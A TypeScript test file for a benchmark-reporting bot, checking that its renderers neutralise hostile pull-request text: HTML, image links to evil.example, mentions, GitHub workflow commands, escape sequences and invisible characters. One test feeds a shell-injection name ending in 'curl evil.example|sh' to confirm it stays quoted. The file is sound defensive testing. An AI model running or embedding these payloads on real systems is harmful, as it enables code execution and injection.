import { test } from 'node:test';
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { spawnSync } from 'node:child_process';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { compareRuns, type ComparisonReport, type CompareSide } from '../../src/compare/compare-runs.ts';
import type { Measurement } from '../../src/model/measurement.ts';
import type { Fingerprint } from '../../src/model/fingerprint.ts';
import { renderMarkdown, REPORT_MARKER } from '../../src/report/markdown-report.ts';
import { renderText } from '../../src/report/text-report.ts';
import { codeFence } from '../../src/report/inert-markdown.ts';
import { renderJson } from '../../src/report/json-report.ts';
import { renderRecoveryComment, renderRegressionIssue } from '../../src/report/regression-issue.ts';
import type { BisectLog } from '../../src/bisect/bisect-log.ts';
import { checkRecovery } from '../../src/scan/recovery.ts';
import { renderScanMarkdown } from '../../src/report/scan-report.ts';
import { inertMermaidLabel, inertText, inertTitle, showInvisible } from '../../src/report/inert-markdown.ts';
import { parseJsonReport, renderBenchFailure, renderBenchReport } from '../../src/app/bench-report.ts';
import { renderRunReport } from '../../src/report/run-report.ts';
import type { RunAbResult } from '../../src/runner/run-ab.ts';
import type { ScanResult } from '../../src/scan/scan-history.ts';
import type { ScanFinding } from '../../src/scan/scan-finding.ts';
import { lognormalSamples } from '../support/samples.ts';
import { ATTACK, LIVE_PATTERNS, hostileString, liveText, outsideCode, parseMarkdown, random, structure } from './markdown-tree.ts';

/**
 * Every markdown surface gets text that came from a pull request (names,
 * metrics, units, warnings, errors, subjects, refs). Each renderer is run
 * twice, once with hostile strings and once with harmless ones in the same
 * places; parsed as GitHub parses it, both must have the same structure
 * (no tag, link, image, block or emphasis came from the text) and no live
 * mention, reference or autolink.
 */

const sha = (text: string) => createHash('sha1').update(text).digest('hex');

/** Texts is one string per place a renderer shows untrusted text. */
type Texts = (i: number) => string;
const harmless: Texts = (i) => `harmless${i}`;

const m = (benchmark: string, metric: string, unit: string, values: number[]): Measurement => ({ benchmark, metric, unit, better: 'lower', values });
const side = (measurements: Measurement[]): CompareSide => ({ measurements, warnings: [], hints: {} });

/** The numbers come from one harmless comparison; only the strings change, so both renders decide the same verdicts. */
const TEMPLATE = compareRuns(
  side([m('a', 't', 'x', lognormalSamples(12, 100, 0.01, 1)), m('b', 't', 'x', lognormalSamples(12, 100, 0.01, 2)), m('c', 't', 'x', [5, 6, 7])]),
  side([m('a', 't', 'x', lognormalSamples(12, 120, 0.01, 3)), m('b', 't', 'x', lognormalSamples(12, 100, 0.01, 4)), m('d', 't', 'x', [5, 6, 7])]),
);

function comparisonReport(t: Texts): ComparisonReport {
  const comparisons = TEMPLATE.comparisons.map((c, i) => ({ ...c, benchmark: `${t(10 + i)}${i}`, metric: t(20 + i), unit: t(30), warnings: [t(40 + i)] }));
  // A second metric of the first benchmark, shown beside its primary in the same row (the "Other metrics" cell).
  const other = { ...comparisons[0], family: 'secondary' as const, metric: t(29), verdict: 'inconclusive' as const, warnings: [t(49)] };
  return { ...TEMPLATE, comparisons: [...comparisons, other], warnings: [t(50), t(51)] };
}

function runReport(t: Texts): ComparisonReport {
  const report = comparisonReport(t);
  return {
    ...report,
    comparisons: report.comparisons.map((c, i) => ({
      ...c,
      ...(i === 1 ? { verdict: 'inconclusive' as const, decision: 'budget' as const } : {}),
      ...(i < 2 ? { detectable: 0.03, suggestedThreshold: 0.05 } : {}),
    })),
  } as ComparisonReport;
}

/** A confirmed nightly regression, written out so that only the strings vary (the scan's own tests cover how it is found). */
const FINDING: ScanFinding = {
  series: 'main:parse:time:fp', benchmark: 'parse', metric: 'time', unit: 'us', better: 'lower', machineKey: 'fp', branch: 'main',
  kind: 'change-point', direction: 'regression', ratio: 1.098, ratioCi: [1.092, 1.104], p: 1e-12, q: 4e-12,
  lastGood: { sha: sha('night 29'), time: '2026-01-30T02:00:00.000Z' }, firstBad: { sha: sha('night 30'), time: '2026-01-31T02:00:00.000Z' },
  nightsSince: 10, before: { nights: 5, n: 50, median: 100 }, after: { nights: 5, n: 50, median: 110 },
  trend: Array.from({ length: 12 }, (_, night) => ({ sha: sha(`night ${night + 28}`), time: new Date(Date.UTC(2026, 0, 29, 2) + night * 86_400_000).toISOString(), median: night >= 2 ? 110 : 100 })),
};

function finding(t: Texts): ScanFinding {
  return {
    ...FINDING, series: t(60), benchmark: t(61), metric: t(62), unit: t(63), branch: t(64),
    lastGood: { sha: t(65), time: t(66) }, firstBad: { sha: t(67), time: t(68) },
    trend: FINDING.trend.map((p, i) => ({ ...p, sha: t(70 + (i % 3)), time: t(73 + (i % 3)) })),
  };
}

function bisectLog(t: Texts): BisectLog {
  const commit = (i: number) => ({ sha: t(80 + i), subject: t(85 + i), pr: 101 + i });
  return {
    status: 'found', culprit: commit(1), sessions: 3, probe_steps: 2,
    culprits: [{ ...commit(1), share: 0.6, ratio: 1.06, range: [] }, { ...commit(2), share: 0.4, ratio: 1.04, range: [] }],
    steps: [
      { sha: t(80), verdict: t(90), n: 10, ratio: 1.01, ratio_ci: [0.99, 1.03] },
      { sha: t(81), verdict: 'skip', reason: t(91), n: 0, ratio: null, ratio_ci: null },
    ],
    reference: { ratio: 1.1, ratio_ci: [1.08, 1.12], p: 0.001, reproducible: true },
    benchmark: t(61), metric: t(62), good: t(92), bad: t(93),
    candidates: [0, 1, 2].map((i) => ({ ...commit(i), author: t(95 + i) })),
  };
}

function fingerprint(t: Texts): Fingerprint {
  return { cpuModel: t(100), cores: 8, kernel: t(101), runnerLabels: [t(102), t(103)], toolVersions: { [t(104)]: t(105) } } as Fingerprint;
}

const meta = (t: Texts) => ({ requestedBy: 'octocat', commentUrl: 'https://github.com/o/r/pull/1#issuecomment-1', base: t(110), head: t(111), currentHead: `${t(112)}n`, runUrl: 'https://github.com/o/r/actions/runs/5' });

const EMPTY_SCAN: ScanResult = { findings: [], awaiting: [], refuted: [], machineChanges: [], tested: 0, warnings: [] };

/** SURFACES renders every markdown surface with the given texts. */
const SURFACES: Record<string, (t: Texts) => string> = {
  'PR comment, job summary and check run summary (renderMarkdown)': (t) => renderMarkdown(comparisonReport(t), { environment: t(1) }),
  'benchbot run --output markdown (the action\'s job summary)': (t) => renderRunReport({
    // The footer names benchmarks that ran out of budget and what this machine can detect for each.
    report: runReport(t), roundsPerSide: 10, maxRoundsPerSide: 40, pooled: {}, looks: [{ roundsPerSide: 10 }], failures: [], undecided: [t(2), t(3)],
    base: { sha: sha('base'), fingerprint: { cpuModel: t(4), cores: 2, kernel: t(5) } }, head: { sha: sha('head') },
  } as unknown as RunAbResult, 'markdown'),
  'app /bench comment and check run (report.json from the artifact)': (t) => renderBenchReport(parseJsonReport(renderJson(comparisonReport(t))), meta(t)),
  'app /bench failure comment': (t) => renderBenchFailure({ ...meta(t), conclusion: t(6), failed: [{ job: t(7), step: t(8), url: null }], detail: t(9) }),
  'regression issue body': (t) => renderRegressionIssue({ finding: finding(t), bisect: bisectLog(t), owner: 'o', repo: 'r', fingerprint: fingerprint(t), reproduce: { bench: t(120), build: t(121), format: t(122) } }).body,
  'regression issue body before bisection': (t) => renderRegressionIssue({ finding: finding(t), owner: 'o', repo: 'r' }).body,
  'regression recovery comment': (t) => renderRecoveryComment({
    series: t(60), benchmark: t(61), metric: t(62), unit: t(63), nights: 3, owner: 'o', repo: 'r', lastNight: { sha: t(65), time: t(66) },
    recovery: checkRecovery(lognormalSamples(10, 100, 0.01, 1), lognormalSamples(10, 100, 0.01, 2), 'lower'),
  }),
  'scan report': (t) => renderScanMarkdown({ ...EMPTY_SCAN, findings: [finding(t)], tested: 1, warnings: [t(130), t(131)] }, { series: 1, threshold: 0.02, branch: t(132), repoUrl: 'https://github.com/o/r' }),
};

/** assertInert checks one surface: same structure as with harmless text, nothing live, one marker at most, no raw tag. */
function assertInert(surface: string, t: Texts): void {
  const render = SURFACES[surface];
  const hostile = render(t);
  const plain = render(harmless);
  const context = `${surface}\n--- rendered ---\n${hostile}`;
  assert.deepEqual(structure(hostile), structure(plain), context);
  assert.deepEqual(liveText(hostile), liveText(plain), context);
  const raw = outsideCode(hostile);
  assert.equal(raw.split('<!--').length, plain.split('<!--').length, `no new HTML comment: ${context}`);
  assert.equal(raw.split(REPORT_MARKER).length, plain.split(REPORT_MARKER).length, `no second report marker: ${context}`);
  assert.ok(!/<(?:img|a |script|\/details>\s*<!--)/i.test(raw), `no raw tag: ${context}`);
  assert.ok(!/[\u0000-\u0008\u000b-\u001f\u007f\u202e]/.test(hostile), `no control characters: ${context}`);
}

/** The payload everywhere (suffixed where a renderer looks things up by the string, such as SHAs), exactly as a unit. */
const ISSUE_ATTACK: Texts = (i) => (i === 30 || i === 63 ? ATTACK : `${ATTACK} ${i}`);

for (const surface of Object.keys(SURFACES)) {
  test(`issue 10's unit payload is inert in the ${surface}`, () => assertInert(surface, ISSUE_ATTACK));
}

test('the issue\'s payload as a unit: one marker, first; no comment left open; no image, tag or mention', () => {
  const body = renderMarkdown(comparisonReport((i) => (i === 30 ? ATTACK : harmless(i))));
  assert.ok(body.startsWith(`${REPORT_MARKER}\n`));
  assert.equal(body.indexOf(REPORT_MARKER, 1), -1, 'the unit cannot produce a second marker');
  assert.equal(body.indexOf('<!--', 1), -1, 'nor open a comment that hides the rest');
  const tree = JSON.stringify(parseMarkdown(body));
  assert.ok(!tree.includes('"type":"image"') && !tree.includes('evil.example/p.png"'), 'no image');
  assert.ok(!/"type":"html","value":"<img/.test(tree), 'no raw HTML');
  assert.match(body, /&lt;img src=x&gt;/, 'the tag is shown as text');
  assert.match(body, /@\u200boctocat/, 'the mention is broken by a zero-width space');
});

test('a benchmark name with odd but legitimate characters is shown as written, not refused', () => {
  const body = renderMarkdown(comparisonReport((i) => (i === 10 ? 'BM_Sort<int>/8' : harmless(i))));
  assert.match(body, /<code>BM_Sort&lt;int&gt;\/80<\/code>/);
  const cells = JSON.stringify(parseMarkdown(body));
  assert.ok(cells.includes('"value":"BM_Sort<int>/80"'), 'it decodes to the exact name');
});

test('a hostile warning and error message are inert in every surface that shows them', () => {
  const warning = 'odd @octocat #12 <!-- x --> [click](https://evil.example) ![i](https://evil.example/i.png)\n\n# heading\n- item';
  for (const surface of ['PR comment, job summary and check run summary (renderMarkdown)', 'app /bench failure comment', 'scan report']) {
    assertInert(surface, (i) => (i === 9 || i === 50 || i === 51 || i === 40 || i === 130 ? warning : harmless(i)));
  }
});

test('property: random hostile strings in every untrusted place of every surface render inert', () => {
  const cases = Number(process.env.BENCHBOT_HOSTILE_CASES ?? 20);
  for (const surface of Object.keys(SURFACES)) {
    for (let seed = 1; seed <= cases; seed++) {
      const next = random(seed * 7919);
      const strings = new Map<number, string>();
      const t: Texts = (i) => {
        if (!strings.has(i)) strings.set(i, hostileString(next));
        return strings.get(i) as string;
      };
      try {
        assertInert(surface, t);
      } catch (error) {
        throw new Error(`seed ${seed} of ${surface}: ${JSON.stringify([...strings])}\n${(error as Error).message}`);
      }
    }
  }
});

test('inertText: nothing in a table cell, heading, list item or <summary> becomes markup', () => {
  const next = random(42);
  for (let i = 0; i < 400; i++) {
    const text = hostileString(next);
    const safe = inertText(text);
    for (const [template, expected] of [
      [(s: string) => `| a | b |\n| --- | --- |\n| ${s} | x |`, ['root', 'table', 'tableRow', 'tableCell', 'tableCell', 'tableRow', 'tableCell', 'tableCell']],
      [(s: string) => `## ${s}`, ['root', 'heading 2']],
      [(s: string) => `- ${s}`, ['root', 'list false', 'listItem', 'paragraph']],
      [(s: string) => `text ${s} text`, ['root', 'paragraph']],
      [(s: string) => `<details><summary>${s}</summary>\n\n</details>`, ['root', 'html "<details><summary>', 'html "</details>"']],
    ] as const) {
      if (safe === '' && expected[1] === 'list false') continue; // nothing left to show: an empty item, not markup
      const md = template(safe);
      const got = structure(md);
      // The <summary> line is an HTML block: it must stay one block, whatever the text.
      if (expected[1].startsWith('html')) {
        assert.equal(got.length, 3, `${JSON.stringify(text)} -> ${md}`);
        assert.ok(!/<(?!\/?(?:details|summary)>)/.test(md), `${JSON.stringify(text)} -> ${md}`);
      } else {
        assert.deepEqual(got, expected, `${JSON.stringify(text)} -> ${md}`);
      }
      assert.deepEqual(liveText(md), [], `${JSON.stringify(text)} -> ${md}`);
    }
  }
});

test('inertText keeps what a reader needs: the decoded text is the original, less controls, invisible characters spelled as escapes, plus zero-width breaks', () => {
  const next = random(7);
  for (let i = 0; i < 300; i++) {
    const text = hostileString(next);
    const tree = parseMarkdown(`x ${inertText(text)}`) as { children: { children: { value: string }[] }[] };
    const shown = tree.children[0].children.map((c) => c.value).join('').slice(2).replace(/\u200b/g, '');
    // CommonMark strips trailing spaces of a paragraph; compare what is left.
    const expected = showInvisible(text).toWellFormed().replace(/[\u0000-\u001f\u007f-\u009f\u2028\u2029]/g, ' ');
    assert.equal(shown.trimEnd(), expected.trimEnd(), JSON.stringify(text));
  }
});

test('names that differ only by invisible characters (zero-width, joiners, soft hyphen, BOM, bidi, tags) read differently', () => {
  const names = ['BM_Parse', 'BM_\u200bParse', 'BM_Pa\u200crse', 'BM_Parse\u200d', 'BM_\u2060Parse', 'BM_Par\u00adse', '\ufeffBM_Parse', 'BM_\u202eParse', 'BM_Parse\u{e0041}', 'BM_\\u200bParse', 'BM_\\\u200bParse', 'BM_\\\\u200bParse'];
  const shown = names.map((n) => {
    const tree = parseMarkdown(`x ${inertText(n)}`) as { children: { children: { value: string }[] }[] };
    return tree.children[0].children.map((c) => c.value).join('').slice(2);
  });
  assert.equal(new Set(shown).size, names.length, `every name reads differently: ${JSON.stringify(shown)}`);
  assert.equal(shown[1], 'BM_\\u200bParse');
  assert.equal(shown[9], 'BM_\\\\u200bParse', 'a name that spells the escape keeps its backslash doubled');
  for (const s of shown) assert.doesNotMatch(s, /\p{Default_Ignorable_Code_Point}/u, `${JSON.stringify(s)} shows every character`);
});

test('regression issue title: one line within 256 characters, the benchmark\'s mentions, references and URLs broken, the culprit PR still a reference', () => {
  const next = random(99);
  for (let i = 0; i < 200; i++) {
    const strings = new Map<number, string>();
    const t: Texts = (k) => strings.get(k) ?? (strings.set(k, hostileString(next)), strings.get(k) as string);
    for (const bisect of [bisectLog(t), undefined, { ...bisectLog(t), culprit: { sha: t(81), subject: t(86), pr: null } }]) {
      const { title } = renderRegressionIssue({ finding: finding(t), bisect, owner: 'o', repo: 'r' });
      const context = `${JSON.stringify([...strings])} -> ${JSON.stringify(title)}`;
      assert.ok(title.length <= 256 && !/[\u0000-\u001f\u007f\u2028\u2029\u202e]/.test(title), context);
      const withoutCulprit = bisect?.culprit?.pr ? title.replace(new RegExp(` in #${bisect.culprit.pr}$`), '') : title;
      for (const [name, pattern] of Object.entries(LIVE_PATTERNS)) assert.ok(!pattern.test(withoutCulprit), `${name}: ${context}`);
      if (bisect?.culprit?.pr) assert.match(title, / in #102$/);
    }
  }
});

test('inertTitle: one line, no live mention, reference or URL, idempotent, within GitHub\'s 256 characters', () => {
  const title = inertTitle(`Performance regression: ${ATTACK} GH-7 www.evil.example #3`);
  assert.ok(!title.includes('\n'));
  for (const [name, pattern] of Object.entries(LIVE_PATTERNS)) assert.ok(!pattern.test(title), `${name} in ${title}`);
  assert.equal(inertTitle(title), title);
  assert.ok(inertTitle('x'.repeat(1000)).length <= 256);
});

test('inertMermaidLabel: no quote, entity, HTML, markdown string or directive survives', () => {
  const label = inertMermaidLabel('a"b#35;<b>`**x**`%%{init: {"theme":"dark"}}%%;\nline&amp;');
  assert.equal(label, "a'b?35?‹b›?**x**?%?init: ?'theme':'dark'??%? line?amp?");
  for (const ch of ['"', '#', '<', '>', '`', '&', ';', '{', '}', '%%', '\n']) assert.ok(!label.includes(ch), ch);
});

test('the text report (terminals and CI logs): one line per row, no escape sequences, no workflow command at a line start', () => {
  // 10 is a benchmark name (in its row and the headline), 29 a metric shown beside its primary.
  const text = renderText(comparisonReport((i) => (i === 10 || i === 29 ? '::error file=x::pwned\n::add-mask::\u001b[2J' : i === 50 ? 'warn\r\n::stop-commands::t' : harmless(i))));
  const plain = renderText(comparisonReport(harmless));
  assert.equal(text.split('\n').length, plain.split('\n').length);
  assert.ok(!/[\u0000-\u0009\u000b-\u001f\u007f]/.test(text), text);
  for (const line of text.split('\n')) assert.ok(!/^\s*::/.test(line), line);
});

test('reproduce commands: a fence no line can close, no live @mention even in an e-mail reply, every value one shell word', () => {
  const name = "x```\n````@octocat'; curl evil.example|sh #";
  const body = renderRegressionIssue({ finding: { ...FINDING, benchmark: name }, owner: 'o', repo: 'r', reproduce: { bench: './b.sh' } }).body;
  const code = (parseMarkdown(body) as { children: { type: string; lang?: string; value: string }[] }).children.find((n) => n.type === 'code' && n.lang === 'sh');
  assert.ok(code, body);
  assert.ok(code.value.includes("--benchmark 'x``` ````@\u200boctocat'\\''; curl evil.example|sh #'"), code.value);
  assert.ok(!/@[a-z]/i.test(code.value));
});

test('codeFence outgrows every backtick run even when the text has 200,000 of them (no spread into Math.max)', () => {
  const body = '`a'.repeat(200_000) + '````b';
  const fenced = codeFence('', [body]);
  assert.ok(fenced.startsWith('`````\n') && fenced.endsWith('\n`````'), fenced.slice(0, 20));
});

test('benchbot compare --output markdown: two benchmarks whose names differ by a zero-width space are two different rows to a reader', () => {
  const dir = mkdtempSync(join(tmpdir(), 'benchbot-invisible-'));
  const side = (seed: number) => JSON.stringify({ version: 1, benchmarks: ['BM_Parse', 'BM_\u200bParse'].map((benchmark, i) => ({ benchmark, unit: 'ns', values: lognormalSamples(12, 100, 0.01, seed + i) })) });
  writeFileSync(join(dir, 'base.json'), side(1));
  writeFileSync(join(dir, 'head.json'), side(10));
  const run = spawnSync(process.execPath, [new URL('../../src/cli/benchbot.ts', import.meta.url).pathname, 'compare', join(dir, 'base.json'), join(dir, 'head.json'), '--output', 'markdown'], { encoding: 'utf8' });
  assert.ok(run.status === 0 || run.status === 1, run.stderr);
  const rows = run.stdout.split('\n').filter((l) => l.startsWith('| <code>BM'));
  assert.equal(rows.length, 2, run.stdout);
  // What a reader sees in the name cell: the entities decoded.
  const shown = rows.map((r) => (/<code>(.*?)<\/code>/.exec(r)?.[1] ?? '').replace(/&#(\d+);/g, (_, code: string) => String.fromCodePoint(Number(code))));
  assert.deepEqual(shown.sort(), ['BM_Parse', 'BM_\\u200bParse']);
});
